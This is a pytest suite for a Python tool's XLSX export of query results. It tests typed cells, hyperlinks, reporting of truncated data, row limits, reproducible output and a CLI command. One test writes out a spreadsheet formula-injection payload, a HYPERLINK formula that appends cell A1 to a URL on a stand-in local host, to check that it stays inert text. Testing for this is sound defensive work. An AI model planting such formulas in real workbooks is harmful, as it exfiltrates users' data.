"""Tables as workbooks, opened again: typed cells, no formula, nothing lost without a word."""

from __future__ import annotations

import io
import re
import time
import zipfile
from collections.abc import Sequence
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner
from hypothesis import given, settings, strategies as st
from pyoxigraph import Literal, NamedNode

from p2p_graph import open_graph, workbook
from p2p_graph.cli import commands
from p2p_graph.errors import AnswerTooLarge
from p2p_graph.model import Limits, Origin, Table, Term
from p2p_graph.vocab import PREFIXES

NOW = datetime(2026, 1, 7, 12, 30, tzinfo=UTC)
A = NamedNode("https://example.org/a?b=1&c=2")


def typed(text: str, datatype: str) -> Literal:
    return Literal(text, datatype=NamedNode(PREFIXES["xsd"] + datatype))


def book(table: Table, **options: Any) -> Any:
    file = io.BytesIO()
    table.to_xlsx(file, now=NOW, **options)
    return openpyxl.load_workbook(file)


def cells(terms: Sequence[Term | None]) -> list[Any]:
    sheet = book(Table(("x",), tuple((term,) for term in terms)))["data"]
    return [sheet.cell(row, 1) for row in range(2, len(terms) + 2)]


def about(made: Any) -> dict[str, str]:
    return {word.value: said.value for word, said in made["about"].iter_rows()}


@pytest.mark.parametrize(
    ("term", "expected", "kind"),
    [
        (Literal(5), 5, "n"),
        (Literal(123456789012345), 123456789012345, "n"),
        (Literal(1234567890123456), "1234567890123456", "s"),
        (typed("0.10", "decimal"), 0.1, "n"),
        (typed("3.333333333333333333", "decimal"), "3.333333333333333333", "s"),
        (Literal(0.1 + 0.2), 0.1 + 0.2, "n"),
        (typed("NaN", "double"), "NaN", "s"),
        (typed("INF", "double"), "INF", "s"),
        (Literal(True), True, "b"),
        (typed("2016", "gYear"), 2016, "n"),
        (typed("2016-05", "gYearMonth"), "2016-05", "s"),
        (typed("2016-05-01", "date"), datetime(2016, 5, 1), "d"),
        (typed("1900-02-28", "date"), "1900-02-28", "s"),
        (typed("2016-05-01T10:20:30", "dateTime"), datetime(2016, 5, 1, 10, 20, 30), "d"),
        (typed("2016-05-01T10:20:30+02:00", "dateTime"), datetime(2016, 5, 1, 8, 20, 30), "d"),
        (typed("10:20:30", "time"), datetime(2016, 5, 1, 10, 20, 30).time(), "d"),
        (typed("10:20:30Z", "time"), "10:20:30Z", "s"),
        (typed("PT90M", "dayTimeDuration"), "PT90M", "s"),
        (typed("abc", "integer"), "abc", "s"),
        (Literal("par", language="pl"), "par", "s"),
        (Literal("#N/A"), "#N/A", "s"),
        (Literal("2016-05-01"), "2016-05-01", "s"),
        (Literal("007"), "007", "s"),
        (A, A.value, "s"),
        (NamedNode("urn:x"), "urn:x", "s"),
    ],
)
def test_cell_has_the_type_and_the_value_of_its_term(term: Term, expected: object, kind: str) -> None:
    (cell,) = cells([term])
    assert (cell.value, cell.data_type) == (expected, kind)
    assert bool(cell.hyperlink) == (term == A)


def test_missing_is_an_empty_cell_and_links_lead_where_they_say() -> None:
    missing, link = cells([None, A])
    assert missing.value is None
    assert link.hyperlink.target == A.value


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\n"])
def test_what_begins_like_a_formula_stays_text(begin: str) -> None:
    text = f'{begin}HYPERLINK("http://127.0.0.1/?"&A1)'
    made = book(
        Table((text,), ((Literal(text),), (typed(text, "integer"),)), Origin(query=f"{text}\n{text}", title=text))
    )
    for cell in [*made["data"]["A"], *made["query"]["A"], *made["about"]["B"]]:
        assert cell.data_type == ("n" if cell.value is None else "s"), cell.coordinate
    # the query sheet has a line to a row, and a line ends where it breaks
    for cell in made["data"]["A"]:
        assert cell.value == text
        assert cell.quotePrefix
    file = io.BytesIO()
    Table((text,), ((Literal(text),),), Origin(query=text)).to_xlsx(file, now=NOW)
    with zipfile.ZipFile(file) as archive:
        assert not [name for name in archive.namelist() if b"<f>" in archive.read(name)]


def test_begin_with_a_carriage_return_stays_text() -> None:
    (cell,) = cells([Literal("\r=1+1")])
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("\n=1+1", "s", True)


@given(st.lists(st.text(st.characters(codec="utf-8"), max_size=30), max_size=6))
@settings(max_examples=60, deadline=None)
def test_any_text_can_be_written_and_read_again(texts: list[str]) -> None:
    found = [cell.value or "" for cell in cells([Literal(text) for text in texts])]
    for text, got in zip(texts, found, strict=True):
        if re.search(r"_x[0-9A-Fa-f]{4}_", text):
            continue
        # XML 1.0 has no other control characters, and one end of a line
        writable = re.sub("[^\t\n\r\u0020-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]", "\ufffd", text)
        assert got == writable.replace("\r\n", "\n").replace("\r", "\n")


def test_what_a_sheet_would_take_for_a_code_is_kept_from_it() -> None:
    file = io.BytesIO()
    Table(("x",), ((Literal("_x0041_"),),)).to_xlsx(file, now=NOW)
    with zipfile.ZipFile(file) as archive:
        assert b"_x005F_x0041_" in archive.read("xl/worksheets/sheet1.xml")


def test_what_is_lost_is_said_on_the_last_sheet() -> None:
    terms = [
        Literal("x" * 40_000),
        Literal("a\x00b"),
        Literal(10**15 + 1),
        typed("1500-01-01", "date"),
        Literal("fine"),
    ]
    made = book(Table(("x",), tuple((term,) for term in terms)))
    said = about(made)
    lost = [word for word in said if "text" in word.casefold() and said[word] == "1"]
    assert len(lost) == 4
    assert len(made["data"]["A2"].value) == 32_767
    assert made["data"]["A2"].value.endswith("…")
    assert made["data"]["A3"].value == "a\ufffdb"
    assert not [word for word in about(book(Table(("x",), ((Literal("fine"),),)))) if "text" in word.casefold()]


def test_sheets_say_where_the_table_comes_from() -> None:
    origin = Origin("SELECT ?x\nWHERE {}", "0.1.0+2026-01-07.1", Limits(20, 50_000), "Pairs", "Who?", {"x": "iri"})
    made = book(Table(("x", "y"), ((A, Literal(1)),), origin), labels={A.value: "Anna"})
    assert made.sheetnames == ["data", "query", "about"]
    data = made["data"]
    assert [cell.value for cell in data[1]] == ["x", "x_label", "y"]
    assert [cell.value for cell in data[2]] == [A.value, "Anna", 1]
    assert data.freeze_panes == "A2"
    assert data.auto_filter.ref == "A1:C2"
    assert data.column_dimensions["A"].width > data.column_dimensions["C"].width
    assert [cell.value for cell in made["query"]["A"]] == ["SELECT ?x", "WHERE {}"]
    said = about(made)
    assert said["Version of the data"] == "0.1.0+2026-01-07.1"
    assert said["Licence of the data"].startswith("CC BY 4.0")
    assert said["Written"] == "2026-01-07 12:30:00+00:00"
    assert said["Limits"].startswith("at most 50,000 rows in 20 seconds")
    assert said["Column x"] == "address"
    assert (said["Title"], said["Question"], said["Rows"]) == ("Pairs", "Who?", "1")


@pytest.mark.parametrize("columns", [(), ("x",), ("x", "y")])
def test_empty_answer_is_a_workbook_with_its_head(columns: tuple[str, ...]) -> None:
    made = book(Table(columns, ()), labels={})
    assert tuple(cell.value for cell in made["data"][1] if cell.value) == columns
    assert made["data"].max_row == 1
    assert about(made)["Rows"] == "0"


def test_columns_without_a_value_stay_empty() -> None:
    sheet = book(Table(("x", "y"), ((None, None), (None, None)), Origin(kinds={"x": "iri"})), labels={})["data"]
    assert [cell.value for cell in sheet[1]] == ["x", "x_label", "y"]
    assert all(cell.value is None for row in sheet.iter_rows(min_row=2) for cell in row)


def test_more_rows_than_a_sheet_has_are_refused() -> None:
    with pytest.raises(AnswerTooLarge, match="1,048,575 rows"):
        book(Table(("x",), ((None,),) * 1_048_576))


def test_links_end_where_a_sheet_can_hold_no_more(monkeypatch: pytest.MonkeyPatch) -> None:
    # With the true number the reader of the test, not our writer, takes minutes: its time grows with the square.
    assert workbook._LINKS == 65_530
    monkeypatch.setattr(workbook, "_LINKS", 3)
    made = book(Table(("x",), ((A,),) * 5))
    assert made["data"]["A4"].hyperlink
    assert not made["data"]["A5"].hyperlink
    assert made["data"]["A6"].value == A.value
    assert about(made)["Addresses without a link, as a sheet holds 65,530"] == "2"


def test_same_table_at_the_same_time_gives_the_same_bytes(tmp_path: Path) -> None:
    table = Table(("x", "y"), ((A, typed("2016-05-01", "date")),))
    table.to_xlsx(tmp_path / "one.xlsx", now=NOW)
    # archives keep even seconds
    time.sleep(2.1)
    table.to_xlsx(str(tmp_path / "other.xlsx"), now=NOW)
    assert (tmp_path / "one.xlsx").read_bytes() == (tmp_path / "other.xlsx").read_bytes()


def test_command_writes_a_workbook(example_home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("P2P_HOME", str(example_home))
    file = tmp_path / "practices.xlsx"
    words = ["run", "practices-by-country", "country=XB", "-o", str(file)]
    result = CliRunner().invoke(commands, words, prog_name="p2p")
    assert result.exit_code == 0, result.output
    made = openpyxl.load_workbook(file)
    with open_graph() as graph:
        expected = graph.run("practices-by-country", country="XB")
    assert tuple(cell.value for cell in made["data"][1]) == expected.columns
    assert made["data"].max_row == len(expected) + 1
    assert about(made)["Title"] == expected.origin.title
    assert about(made)["Version of the data"].endswith("+2026-01-07.1")
    asked = ["ask", "ASK {}", "--format", "xlsx", "-o", str(file)]
    refused = CliRunner().invoke(commands, asked, prog_name="p2p")
    assert refused.exit_code == 2
    assert "no format 'xlsx' for a yes or no" in refused.stderr
